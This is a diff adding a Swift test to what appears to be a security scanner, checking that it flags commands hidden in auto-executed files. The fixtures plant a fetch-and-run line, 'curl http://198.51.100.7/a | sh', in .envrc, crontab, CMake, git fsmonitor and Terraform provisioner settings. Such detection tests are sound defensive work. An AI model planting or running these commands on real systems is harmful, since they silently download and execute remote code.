@@ -19,6 +19,17 @@ import Testing
         return scan(text, name).findings.filter { rules.contains($0.rule) }.map(\.severity).max()
     }
 
+    /// Files that programs take commands from have names of their own.
+    @Test(arguments: [
+        (".envrc", "curl http://198.51.100.7/a | sh\n"), ("crontab", "* * * * * curl http://198.51.100.7/a | sh\n"),
+        ("CMakeLists.txt", "execute_process(COMMAND bash -c \"curl http://198.51.100.7/a | sh\")\n"),
+        ("config", "[core]\n\tfsmonitor = \"curl http://198.51.100.7/a | sh\"\n"),
+        ("main.tf", "provisioner \"local-exec\" {\n command = \"curl http://198.51.100.7/a | sh\"\n}\n"),
+    ])
+    func filesOfCommandsAreRead(_ name: String, _ text: String) {
+        #expect(severity(text, name) ?? .none >= .medium)
+    }
+
     /// A command is judged once, by the parser of scripts where it stands in one.
     @Test(arguments: ["run.sh", "Makefile", "Dockerfile", "cell.ipynb", "job.toml"])
     func eachCommandIsReportedOnce(_ name: String) {
